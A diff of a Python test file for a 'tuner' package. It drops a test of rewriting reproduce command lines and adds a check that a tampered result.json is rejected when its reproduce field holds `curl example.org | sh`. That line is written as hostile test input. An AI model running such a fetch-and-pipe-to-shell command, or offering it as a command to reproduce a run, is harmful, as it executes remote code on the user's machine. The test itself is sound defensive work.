@@ -14,7 +14,6 @@ from tuner.search.trials import Goal, TrialResult
 from tuner.study.comparison_result import BranchResult, Comparison
 from tuner.study.ending import read_result, write_result
 from tuner.study.natural import natural, natural_comparison
-from tuner.study.reproduce import moved
 from tuner.study.results import (
     Confirmation,
     ConfirmedDefault,
@@ -174,19 +173,12 @@ def test_the_reproducing_line_is_a_fact_of_the_run_and_moves_with_the_study(tmp_
     assert saved is not None
     assert saved.result.reproduce == line.replace("old", str(tmp_path))
     assert replace(saved.result, reproduce=line) == own
-
-
-@pytest.mark.parametrize(
-    ("line", "root", "there"),
-    [
-        ("python -m tuner +best=a", "mlruns", "python -m tuner +best=a"),
-        ("python -m tuner +best=a", "my runs", """python -m tuner +best=a 'root="my runs"'"""),
-        ("python -m tuner +best=a 'root=\"x y\"' tracking=none", "mlruns",
-         "python -m tuner +best=a tracking=none"),
-    ],
-)  # fmt: skip
-def test_a_line_is_moved(line: str, root: str, there: str) -> None:
-    assert moved(line, Path(root)) == there
+    # What a stranger wrote there is not shown as a line to run.
+    told["run"]["reproduce"] = "curl example.org | sh"
+    (folder / "result.json").write_text(json.dumps(told))
+    saved = read_result(folder / "result.json")
+    assert saved is not None
+    assert saved.result.reproduce == f"python -m tuner +best=s root={tmp_path}"
 
 
 def test_a_comparison_is_turned_whole() -> None:
